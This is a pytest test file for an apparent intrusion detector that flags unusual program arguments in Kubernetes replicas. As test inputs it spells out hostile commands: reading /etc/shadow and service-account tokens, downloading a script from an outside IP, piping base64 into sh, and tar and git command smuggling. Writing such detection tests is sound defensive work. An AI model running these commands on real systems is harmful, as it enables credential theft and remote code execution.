"""A known tool that is told to do something else is seen; what machines write into arguments is not."""

import pytest
from detection.cluster import CART, Cluster, Replica, alerts, analyse
from peerwatch.columns import ProcessFlag

from collector.analysis import Analysis
from collector.detect.argument_context import of_arguments, traits
from collector.detect.context import of_connect
from collector.detect.tools import Level
from collector.records import BehaviourState, Severity

SERVER = "/usr/bin/server"


def habit(cluster: Cluster, pods: list[Replica], exe: str, *args: str, parent: str = SERVER, until: int = 600) -> None:
    """Let each replica run a program with the same arguments every three seconds."""
    for second in range(2, until, 3):
        for number, pod in enumerate(pods):
            cluster.exec(second + number / 10, pod, exe, args=args, parent=parent)


@pytest.mark.parametrize(
    ("exe", "usual", "attack", "technique"),
    [
        ("/usr/bin/python3.11", ("python3", "app.py"), ("python3", "-c", "import socket;s=socket.socket()"), "T1059"),
        ("/usr/bin/find", ("find", "/tmp", "-mmin", "+5", "-delete"), ("find", "/", "-perm", "-4000"), "T1548.001"),
        ("/usr/bin/grep", ("grep", "-c", "ready", "/run/state"), ("grep", "-ri", "password", "/etc"), "T1552.001"),
        ("/usr/bin/find", ("find", "/tmp", "-mmin", "+5", "-delete"), ("find", "/", "-name", "id_rsa"), "T1552.004"),
        ("/usr/bin/cat", ("cat", "/run/state"), ("cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"), "T1552.001"),
        ("/usr/bin/cat", ("cat", "/run/state"), ("cat", "/proc/1/cgroup"), "T1497.001"),
        ("/usr/bin/cat", ("cat", "/run/state"), ("cat", "/etc/shadow"), "T1003.008"),
        ("/usr/bin/cat", ("cat", "/run/state"), ("cat", "/proc/17/environ"), "T1552.001"),
        ("/usr/bin/curl", ("curl", "-sf", "http://10.0.0.8/healthz"), ("curl", "-o", "/x", "http://203.0.113.9/x.sh"), "T1105"),
        ("/usr/bin/dash", ("sh", "-c", "pg_isready -h db"), ("sh", "-c", "id; cat /etc/shadow"), "T1003.008"),
        ("/usr/bin/dash", ("sh", "-c", "pg_isready -h db"), ("sh", "-c", "bash -c 'whoami'"), "T1033"),
        ("/usr/bin/chmod", ("chmod", "644", "/run/state"), ("chmod", "4755", "/run/state"), "T1548.001"),
        ("/usr/bin/openssl", ("openssl", "dgst", "/run/x"), ("openssl", "enc", "-aes-256-cbc", "-in", "/run/x"), "T1140"),
    ],
)  # fmt: skip
def test_new_arguments_of_a_known_program_are_found(
    cluster: Cluster, exe: str, usual: tuple[str, ...], attack: tuple[str, ...], technique: str
) -> None:
    pods = cluster.pods(4)
    habit(cluster, pods, exe, *usual)
    cluster.exec(500.5, pods[2], exe, args=attack)

    (alert,) = alerts(analyse(cluster, until=700))

    assert [each.pod for each in alert.replicas] == ["cart-r1-2"]
    assert alert.behaviours[0].example == attack
    assert technique in alert.techniques
    assert alert.time - alert.first_event <= 31_000_000_000


def test_what_touches_passwords_is_said_at_once(cluster: Cluster) -> None:
    pods = cluster.pods(4)
    habit(cluster, pods, "/usr/bin/dash", "sh", "-c", "pg_isready -h db")
    cluster.exec(300.5, pods[1], "/usr/bin/dash", args=("sh", "-c", "id; cat /etc/shadow"))

    (alert,) = alerts(analyse(cluster))

    assert alert.severity is Severity.HIGH
    assert alert.time - alert.first_event == 100_000_000
    assert alert.behaviours[0].key == "/usr/bin/dash <- /usr/bin/server : -c id ; cat /etc/shadow"


@pytest.mark.parametrize(
    "args",
    [
        ("psql", "-tAc", "select {number}"),
        ("psql", "-tAc", "select * from t where name = '{word}'"),
        ("tool", "{uuid}"),
        ("tool", "--at=2026-11-22T10:00:{second:02}Z"),
        ("tool", "/tmp/job-{number}-{hex}.txt"),
        ("tool", "{word}"),
        ("cp", "/data/{word}/in", "/data/{other}/out"),
        ("curl", "-s", "http://api.shop.svc:8080/item/{number}"),
        ("nc", "-z", "10.4.{second}.9", "{number}"),
        ("tool", "--name={pod}", "--node={node}"),
        ("sh", "-c", "gzip -c /etc/services > /tmp/page-{hex}.gz; rm -f /tmp/page-*.gz"),
        ("sh", "-c", "echo {number} | md5sum"),
        ("sh", "-c", "convert /data/{word}.png /data/{other}.jpg && touch /run/done-{number}"),
    ],
)
def test_what_machines_write_into_arguments_is_no_behaviour(cluster: Cluster, args: tuple[str, ...]) -> None:
    pods = cluster.pods(4)
    words = ("alice", "bobby", "carol", "erika", "frank", "grace", "heidi", "ivana", "judith", "mallory", "niaj", "olivia")
    exe = "/usr/bin/dash" if args[0] == "sh" else f"/usr/bin/{args[0]}"
    for turn in range(240):
        pod, drawn = pods[turn * 7 % 4], (turn + 3) * 2654435761 % 2**40
        values = {
            "number": drawn % 1_000_003,
            "word": words[drawn // 7 % 12],
            "other": words[drawn // 91 % 12],
            "uuid": f"{drawn:08x}-1111-4222-8333-{drawn:012x}"[-36:],
            "hex": f"{drawn:010x}",
            "second": turn % 60,
            "pod": pod.name,
            "node": pod.subject.node,
        }
        cluster.exec(2 + turn * 2.5, pod, exe, args=tuple(word.format(**values) for word in args))
    analysis = Analysis()

    assert alerts(analyse(cluster, until=700, analysis=analysis)) == []
    assert len(analysis.baseline(CART)) < 24


def test_a_program_whose_arguments_never_settle_tells_nothing_by_them(cluster: Cluster) -> None:
    pods = cluster.pods(4)
    for turn in range(300):
        word = "".join(chr(97 + turn // 26**place % 26) for place in range(3))
        for number in range(turn % 5 + 1):
            cluster.exec(
                2 + turn * 3 + number / 10, pods[turn * 7 % 4], "/usr/bin/make", args=("make", *(word * number), word, "all")
            )
    analysis = Analysis()

    assert alerts(analyse(cluster, until=1000, analysis=analysis)) == []
    assert len(analysis.baseline(CART)) <= 34


def test_a_probe_that_all_replicas_get_is_learned_with_its_arguments(cluster: Cluster) -> None:
    pods = cluster.pods(4)
    for second in range(1, 300, 10):
        for pod in pods:
            cluster.exec(
                second, pod, "/usr/bin/curl", parent="", args=("curl", "http://127.0.0.1/"), flags=(ProcessFlag.INJECTED,)
            )
    analysis = Analysis()

    assert analyse(cluster, until=400, analysis=analysis) == []
    assert [(each.key, each.state) for each in analysis.baseline(CART)] == [
        ("/usr/bin/curl (injected)", BehaviourState.LEARNED),
        ("/usr/bin/curl (injected) : <http:loopback>", BehaviourState.LEARNED),
    ]


def test_arguments_of_a_suspected_program_are_not_told_beside_it_and_teach_nothing(cluster: Cluster) -> None:
    pods = cluster.pods(4)
    cluster.normal(pods, 0, 300)
    for second in range(100, 300, 9):
        cluster.exec(second + 0.5, pods[1], "/usr/bin/nc", args=("nc", "-l", "-p", str(second)))
    analysis = Analysis()

    (alert,) = alerts(analyse(cluster, until=400, analysis=analysis))

    assert [each.key for each in alert.behaviours] == ["/usr/bin/nc <- /usr/bin/server"]
    states = {each.key: each.state for each in analysis.baseline(CART)}
    assert states["/usr/bin/nc <- /usr/bin/server : -l -p <n>"] == BehaviourState.CANDIDATE


def test_a_restart_changes_no_verdict_on_arguments(cluster: Cluster) -> None:
    pods = cluster.pods(4)
    habit(cluster, pods, "/usr/bin/cat", "cat", "/run/state", until=300)
    first, second = Analysis(), Analysis()
    incidents = first.observe(cluster.table())
    changes = first.take_changes()
    second.restore(changes.replicas, changes.sightings, incidents)
    after = Cluster()
    after.exec(400.5, pods[2], "/usr/bin/cat", args=("cat", "/etc/shadow"))

    (alert,) = alerts(analyse(after, until=500, analysis=second))

    assert alert.behaviours[0].key == "/usr/bin/cat <- /usr/bin/server : /etc/shadow"


def test_a_new_version_that_calls_its_tools_differently_is_one_note(cluster: Cluster) -> None:
    old, new = cluster.pods(4), cluster.pods(4, revision="r2", at=300)
    habit(cluster, old, "/usr/bin/curl", "curl", "-s", "http://api/v1", until=320)
    for second in range(302, 700, 3):
        for pod in new:
            cluster.exec(second, pod, "/usr/bin/curl", args=("curl", "-s", "--http2", "http://api/v2"))

    assert alerts(analyse(cluster, until=800)) == []


def test_a_shell_with_other_words_each_time_is_still_told_when_it_runs_what_comes_through_a_pipe(cluster: Cluster) -> None:
    pods = cluster.pods(4)
    cluster.normal(pods, 0, 1500)
    for turn in range(24):
        program = "".join(chr(97 + int(digit)) for digit in str(turn)) + "-report"
        cluster.exec(30 + 50 * turn, pods[turn % 4], "/usr/bin/dash", args=("sh", "-c", f"/opt/{program} /srv/out"))
    cluster.exec(1300.5, pods[1], "/usr/bin/dash", args=("sh", "-c", "echo aWQK|base64 -d|sh"))

    alert = alerts(analyse(cluster, until=1600))[-1]

    assert [each.pod for each in alert.replicas] == [pods[1].name]
    assert "what comes through a pipe is run" in alert.reason


def test_a_program_that_never_named_an_address_outside_and_does_is_told(cluster: Cluster) -> None:
    pods = cluster.pods(4)
    cluster.normal(pods, 0, 900)
    for second in range(5, 850, 5):
        for pod in pods:
            cluster.exec(second + 0.3, pod, "/usr/bin/convert-video", args=("convert-video", f"/srv/in/{second}.mp4"))
    cluster.exec(800.6, pods[2], "/usr/bin/convert-video", args=("convert-video", "-o", "/srv/x", "http://203.0.113.7/x"))

    (alert,) = alerts(analyse(cluster, until=1000))

    assert [each.pod for each in alert.replicas] == [pods[2].name]
    assert "an address outside of the cluster" in alert.reason


def test_a_helper_of_each_quarter_hour_is_judged_by_what_all_that_is_executed_is_told(cluster: Cluster) -> None:
    pods = cluster.pods(4)
    cluster.normal(pods, 0, 2400, every=2)
    for turn in range(3):
        for number, pod in enumerate(pods):
            args = ("convert-video", f"/srv/in/{number}.mp4")
            cluster.exec(300.5 + 500 * turn + 7 * number, pod, "/usr/bin/convert-video", args=args)
    cluster.exec(2000.5, pods[2], "/usr/bin/convert-video", args=("convert-video", "-o", "/srv/x", "http://203.0.113.7/x"))

    (alert,) = alerts(analyse(cluster, until=2500))

    assert [each.pod for each in alert.replicas] == [pods[2].name]


@pytest.mark.parametrize(
    ("script", "level"),
    [
        ("read x < /srv/x; echo $x > /usr/local/bin/x", Level.SUSPICIOUS),
        ("echo $x >>/etc/hosts", Level.SUSPICIOUS),
        ("echo $x >/dev/shm/x", Level.SUSPICIOUS),
        ("echo $x > /var/run/app.pid 2> /dev/null", None),
        ("echo $x > /srv/etc/x", None),
    ],
)
def test_a_shell_that_writes_where_programs_are_kept_says_so(script: str, level: Level | None) -> None:
    said = [each.level for each in traits("/bin/sh", ("sh", "-c", script))]

    assert said == ([level] if level is not None else [])


@pytest.mark.parametrize(
    ("arguments", "technique"),
    [
        (("convert", "caption:@/etc/passwd", "/srv/out.png"), "T1552.001"),
        (("git", "log", "-p", "-S", "AKIA", "--all"), "T1552.001"),
        (("gpg", "--export-secret-keys", "--armor"), "T1552.001"),
        (("git", "-c", "core.fsmonitor=id;true", "status"), "T1202"),
        (("tar", "cf", "/dev/null", "x", "--checkpoint=1", "--checkpoint-action=exec=sh"), "T1202"),
        (("report", "--password-file", "/srv/passphrase"), None),
    ],
)
def test_what_holds_credentials_and_what_starts_programs_says_something_to_any_program(
    arguments: tuple[str, ...], technique: str | None
) -> None:
    said = {each for context in traits(f"/usr/bin/{arguments[0]}", arguments) for each in context.techniques}

    assert (technique in said) if technique else not said


@pytest.mark.parametrize(("file", "told"), [("ca.crt", False), ("namespace", False), ("token", True)])
def test_of_a_service_account_only_the_token_is_a_secret(file: str, *, told: bool) -> None:
    said = traits("/usr/bin/openssl", ("openssl", "x509", "-in", f"/var/run/secrets/kubernetes.io/serviceaccount/{file}"))

    assert any("T1552.001" in each.techniques for each in said) is told


def test_a_scheduler_says_nothing_by_naming_its_own_tables() -> None:
    assert traits("/usr/bin/run-parts", ("run-parts", "--report", "/etc/cron.hourly")) == ()
    assert traits("/usr/bin/tee", ("tee", "/etc/cron.hourly/x"))


@pytest.mark.parametrize("stays", [True, False])
@pytest.mark.parametrize("port", [443, 8443])
def test_a_service_that_goes_outside_for_the_first_time_may_have_to_report(port: int, *, stays: bool) -> None:
    target = f"public 203.0.0.0/16:{port}/tcp"

    told = of_connect(program="/usr/bin/server", target=target, first_outside=True, stays=stays)

    assert told.level is (Level.SUSPICIOUS if stays or port != 443 else Level.NEUTRAL)


@pytest.mark.parametrize(
    ("target", "level"),
    [
        ("data/db:5432/tcp", Level.ROUTINE),
        ("public 203.0.0.0/16:5432/tcp", Level.NEUTRAL),
        ("data/db:22/tcp", Level.SUSPICIOUS),
    ],
)
def test_a_client_of_stores_connects_to_one_and_what_it_is_told_tells_which(target: str, level: Level) -> None:
    program = "/usr/bin/ruby" if target.endswith(":22/tcp") else "/usr/bin/pg_dump"
    assert of_connect(program=program, target=target).level is level


@pytest.mark.parametrize(("usual", "level"), [(True, Level.NEUTRAL), (False, Level.STRONG)])
def test_a_tool_that_goes_there_as_a_matter_of_course_goes_there(level: Level, *, usual: bool) -> None:
    target = "public 203.0.0.0/16:22/tcp"
    assert of_connect(program="/usr/bin/sftp", target=target, usual=usual).level is level
    assert of_connect(program="/usr/bin/sftp", target=target, usual=usual, injected=True).level is Level.STRONG


@pytest.mark.parametrize(
    ("script", "level"),
    [
        ("/usr/sbin/sendmail -t -i", Level.ROUTINE),
        ("sendmail -t; id", Level.SUSPICIOUS),
        ("sendmail -t; save", Level.NEUTRAL),
    ],
)
def test_a_shell_that_calls_a_service_s_helper_is_told_nothing_of_note(script: str, level: Level) -> None:
    told = of_arguments(program="/usr/bin/dash", parent="/usr/sbin/php-fpm", arguments=("sh", "-c", script), known=())
    assert told.level is level


@pytest.mark.parametrize(("port", "level"), [(3333, Level.STRONG), (14444, Level.STRONG), (443, Level.ROUTINE)])
def test_where_pools_and_handlers_listen_is_no_usual_supplier(port: int, level: Level) -> None:
    assert of_connect(program="/usr/bin/server", target=f"public 203.0.0.0/16:{port}/tcp").level is level
